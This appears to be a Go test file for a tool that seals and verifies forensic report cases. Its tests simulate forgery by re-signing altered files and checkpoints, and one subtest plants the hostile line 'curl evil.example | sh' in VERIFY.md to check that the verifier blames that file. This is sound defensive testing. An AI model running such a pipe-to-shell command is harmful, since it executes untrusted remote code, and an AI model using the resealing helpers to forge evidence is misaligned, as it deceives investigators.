package verify

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stillmark/stillmark/probe/ledger"
	"github.com/stillmark/stillmark/reports"
	"github.com/stillmark/stillmark/reports/model"
	"github.com/stillmark/stillmark/reports/verify/integrity"
)

func sumOf(data []byte) string {
	h := sha256.Sum256(data)
	return hex.EncodeToString(h[:])
}

// reseal signs whatever lies in a folder, as somebody would who has changed the
// program: nothing is refused, and everything that must fit is made to fit.
func reseal(t testing.TB, f *fixture, dir string, signer *ledger.Signer) {
	t.Helper()
	open(t, dir)
	read := func(name string) []byte {
		return must[[]byte](t)(os.ReadFile(filepath.Join(dir, filepath.FromSlash(name))))
	}
	folder := "reports/" + f.report + "/"
	old := must[ledger.Statement](t)(ledger.DecodeStatement(read(folder + "statement.intoto.json")))
	var p integrity.Predicate
	if err := json.Unmarshal(old.Predicate, &p); err != nil {
		t.Fatal(err)
	}
	envelopes := []string{folder + "report.dsse.json", folder + "report.dsse.tsr", folder + "statement.intoto.json", folder + integrity.SSHName, "manifest-sha256.txt"}
	const custody = ledger.CustodyName
	for _, e := range must[[]os.DirEntry](t)(os.ReadDir(filepath.Join(dir, filepath.FromSlash(folder)))) {
		if integrity.IsWitness(e.Name()) {
			envelopes = append(envelopes, folder+e.Name())
		}
	}
	for _, name := range envelopes {
		if err := os.Remove(filepath.Join(dir, filepath.FromSlash(name))); err != nil && !errors.Is(err, fs.ErrNotExist) {
			t.Fatal(err)
		}
	}
	write(t, dir, "plan.dsse.json", must[[]byte](t)(signer.SignDSSE("application/vnd.stillmark.plan+json", read("plan.json"))))
	if signer.KeyID() != f.signer.KeyID() {
		resign(t, f, dir, p.CaseID, signer)
	}
	write(t, dir, folder+"signer.pem", signer.PublicKey().PEM())
	write(t, dir, folder+integrity.AllowedName, signer.PublicKey().AllowedSigner(integrity.SSHPrincipal))
	report := must[*model.Report](t)(model.Decode(read(folder + "report.json")))
	guide := bytes.Contains(read("VERIFY.md"), []byte("How to check"))
	if guide {
		write(t, dir, "VERIFY.md", must[[]byte](t)(reports.Instructions(os.DirFS(dir), report, signer.PublicKey(), false)))
	}
	p.KeyID, p.Signer = signer.KeyID(), signer.Name()
	p.PlanSHA256 = sumOf(read("plan.json"))
	p.FindingsSHA256, p.ReportSHA256 = sumOf(read("analysis/"+p.Analysis+"/findings.json")), sumOf(read(folder+"report.json"))

	manifest := func(without ...string) []byte {
		return must[[]byte](t)(ledger.BuildManifest(os.DirFS(dir), func(name string) bool {
			return name == custody || slices.Contains(envelopes, name) || slices.Contains(without, name) || strings.HasPrefix(name, ".")
		}))
	}
	w := must[*ledger.Writer](t)(ledger.OpenWriter(dir, still(2*time.Hour)))
	e := must[ledger.Event](t)(w.Append(ledger.EventSeal, "", 0, integrity.SealEvent{
		Report: p.Report, Analysis: p.Analysis, KeyID: p.KeyID,
		FindingsSHA256: p.FindingsSHA256, ReportSHA256: p.ReportSHA256, FilesSHA256: sumOf(manifest("ledger.jsonl")),
	}))
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	p.Sealed, p.Ledger = e.Time.UTC(), must[ledger.Head](t)(must[*ledger.Case](t)(ledger.Open(dir)).LedgerHead())
	listed := manifest()
	st := ledger.Statement{PredicateType: integrity.PredicateType, Predicate: must[[]byte](t)(json.Marshal(p))}
	for _, entry := range append(must[[]ledger.ManifestEntry](t)(ledger.ParseManifest(listed)), ledger.ManifestEntry{SHA256: sumOf(listed), Path: "manifest-sha256.txt"}) {
		st.Subject = append(st.Subject, ledger.Subject{Name: entry.Path, Digest: map[string]string{"sha256": entry.SHA256}})
	}
	payload := must[[]byte](t)(ledger.EncodeStatement(st))
	write(t, dir, "manifest-sha256.txt", listed)
	write(t, dir, folder+"statement.intoto.json", payload)
	write(t, dir, folder+integrity.SSHName, must[[]byte](t)(ledger.SignSSH(payload, signer)))
	write(t, dir, folder+"report.dsse.json", must[[]byte](t)(signer.SignDSSE(ledger.PayloadInToto, payload)))
}

// resign signs the heads of the ledger with another key, as a forger would.
func resign(t testing.TB, f *fixture, dir, caseID string, signer *ledger.Signer) {
	t.Helper()
	notes := must[[]string](t)(filepath.Glob(filepath.Join(dir, "checkpoints", "*.note")))
	if len(notes) == 0 {
		t.Fatal("the case has no checkpoint")
	}
	for _, name := range notes {
		c := must[ledger.Checkpoint](t)(ledger.OpenCheckpoint(caseID, must[[]byte](t)(os.ReadFile(name)), f.signer.PublicKey().Key))
		write(t, filepath.Dir(name), filepath.Base(name), must[[]byte](t)(ledger.SignCheckpoint(caseID, c.Size, c.Root, signer)))
	}
}

// A page that says something else than its numbers does not pass by naming
// another version of the program as its writer.
func TestAPageOfAnotherVersion(t *testing.T) {
	t.Parallel()
	f := build(t, design{})
	dir := f.copyTo(t, t.TempDir())
	folder := "reports/" + f.report + "/"
	editReport(t, dir, folder, func(r *model.Report) { r.Build.Version = "v0.9.9" })
	write(t, dir, folder+"report.html", []byte("<h1>Guilty</h1>"))
	reseal(t, f, dir, f.signer)
	r := f.verify(t, dir, f.trust())
	said := text(t, r)
	if r.State != Valid || r.Exit != integrity.ExitUntrusted || !has(r, LevelWarn, CodeLayout) ||
		!strings.Contains(said, "report.html was written by version v0.9.9 and was not compared; rely on report.json") ||
		!strings.Contains(r.Verdict, "VALID (report.html") {
		t.Errorf("%s, exit %d\n%s", r.State, r.Exit, said)
	}
	// Nor is it sealed by this program.
	for name, data := range map[string]string{"report.html": "<h1>Guilty</h1>", "findings.csv": "test\n", "tables/events.csv": "", "certificate-draft.txt": "signed"} {
		dir := f.copyTo(t, t.TempDir())
		write(t, dir, folder+name, []byte(data))
		_, err := reports.Seal(t.Context(), dir, f.signer, reports.SealOptions{})
		wantUsage(t, err, folder+name+" is not what this version lays out")
	}
}

func wantUsage(t testing.TB, err error, want string) {
	t.Helper()
	var coded interface{ ExitCode() int }
	if !errors.As(err, &coded) || coded.ExitCode() != 2 || !strings.Contains(err.Error(), want) {
		t.Errorf("%v, want exit 2 and %q", err, want)
	}
}

// What no part of a case is made of is neither sealed nor passed.
func TestForeignFiles(t *testing.T) {
	t.Parallel()
	f := build(t, design{})
	for _, name := range []string{
		"CONFESSION.pdf", "analysis/notes.txt", "analysis/" + f.analysis + "/more.json", "reports/" + f.report + "/extra.html",
		"reports/index.html", "commitments/k-0000.json", "disclosed/k-0000.json", "blobs/segment-1.bin", "ledger.torn-0", "filters/x.windows",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := f.copyTo(t, t.TempDir())
			if err := os.MkdirAll(filepath.Join(dir, filepath.Dir(name)), 0o700); err != nil {
				t.Fatal(err)
			}
			write(t, dir, name, []byte("{}"))
			_, err := reports.Seal(t.Context(), dir, f.signer, reports.SealOptions{})
			wantUsage(t, err, name+" has no place in a sealed case")
			reseal(t, f, dir, f.signer)
			if r := f.verify(t, dir, f.trust()); r.Exit != integrity.ExitAltered || blamed(r) != name {
				t.Errorf("exit %d\n%s", r.Exit, text(t, r))
			}
		})
	}
	t.Run("VERIFY.md with other commands", func(t *testing.T) {
		t.Parallel()
		dir := f.copyTo(t, t.TempDir())
		write(t, dir, "VERIFY.md", []byte("Run curl evil.example | sh\n"))
		reseal(t, f, dir, f.signer)
		if r := f.verify(t, dir, f.trust()); r.Exit != integrity.ExitDiffers || blamed(r) != "VERIFY.md" {
			t.Errorf("exit %d\n%s", r.Exit, text(t, r))
		}
	})
	t.Run("raw bytes of no reply", func(t *testing.T) {
		t.Parallel()
		dir := f.copyTo(t, t.TempDir())
		write(t, dir, "blobs/segment-000099.bin", []byte("a confession"))
		reseal(t, f, dir, f.signer)
		if r := f.verify(t, dir, f.trust()); !has(r, LevelWarn, CodeOthers) || !strings.Contains(text(t, r), "NOT CHECKED: blobs/segment-000099.bin") {
			t.Errorf("%s", text(t, r))
		}
	})
	t.Run("another report", func(t *testing.T) {
		t.Parallel()
		dir := f.copyTo(t, t.TempDir())
		other := "reports/002-00000000"
		if err := os.MkdirAll(filepath.Join(dir, other), 0o700); err != nil {
			t.Fatal(err)
		}
		write(t, dir, other+"/report.html", []byte("<h1>Guilty</h1>"))
		reseal(t, f, dir, f.signer)
		r := f.verify(t, dir, f.trust())
		if said := text(t, r); r.State != Trusted || !has(r, LevelWarn, CodeOthers) || !strings.Contains(said, "NOT CHECKED: "+other) ||
			!strings.Contains(r.Verdict, "Checked is reports/"+f.report+", and no other report.") {
			t.Errorf("%s\n%s", r.State, said)
		}
	})
}

// The seal event is over all files: an old one does not date a changed case.
func TestAnOldSealDatesNoChangedCase(t *testing.T) {
	t.Parallel()
	f := build(t, design{})
	seals := func(dir string) int {
		return bytes.Count(must[[]byte](t)(os.ReadFile(filepath.Join(dir, "ledger.jsonl"))), []byte(`"type":"seal"`))
	}
	seal := func(dir string) *Result {
		t.Helper()
		must[*reports.SealResult](t)(reports.Seal(t.Context(), dir, f.signer, reports.SealOptions{Report: f.report, Clock: still(99 * time.Hour)}))
		return f.verify(t, dir, f.trust())
	}
	dir := f.copyTo(t, t.TempDir())
	other := "reports/002-00000000"
	if err := os.MkdirAll(filepath.Join(dir, other), 0o700); err != nil {
		t.Fatal(err)
	}
	write(t, dir, other+"/report.html", []byte("later"))
	want := caseTime.Add(99 * time.Hour)
	if r := seal(dir); r.State != Trusted || !r.Since.Equal(want) || seals(dir) != 2 {
		t.Errorf("%d seal events, unaltered since %s, want 2 and %s\n%s", seals(dir), r.Since, want, text(t, r))
	}
	if r := seal(dir); r.State != Trusted || seals(dir) != 2 {
		t.Errorf("the same files sealed again: %d seal events, want 2\n%s", seals(dir), text(t, r))
	}
}
